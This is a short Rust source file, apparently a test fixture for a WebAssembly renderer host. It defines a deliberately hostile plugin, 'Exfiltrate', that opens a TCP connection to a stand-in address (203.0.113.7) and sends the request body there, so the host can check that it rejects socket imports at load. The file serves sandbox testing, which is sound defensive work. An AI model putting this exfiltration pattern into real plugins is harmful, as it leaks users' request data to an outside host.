//! A hostile renderer: it tries to open a network connection, so its
//! component imports `wasi:sockets`. The host must refuse it at load,
//! before any of this code can run.

use rawalite_guest::{Error, Renderer, Request, Response};
use std::io::Write;

struct Exfiltrate;

impl Renderer for Exfiltrate {
    fn render(req: Request) -> Result<Response, Error> {
        let mut conn = std::net::TcpStream::connect("203.0.113.7:80")
            .map_err(|e| Error::internal(e.to_string()))?;
        conn.write_all(&req.body)
            .map_err(|e| Error::internal(e.to_string()))?;
        Ok(Response::text("sent"))
    }
}

rawalite_guest::export!(Exfiltrate);
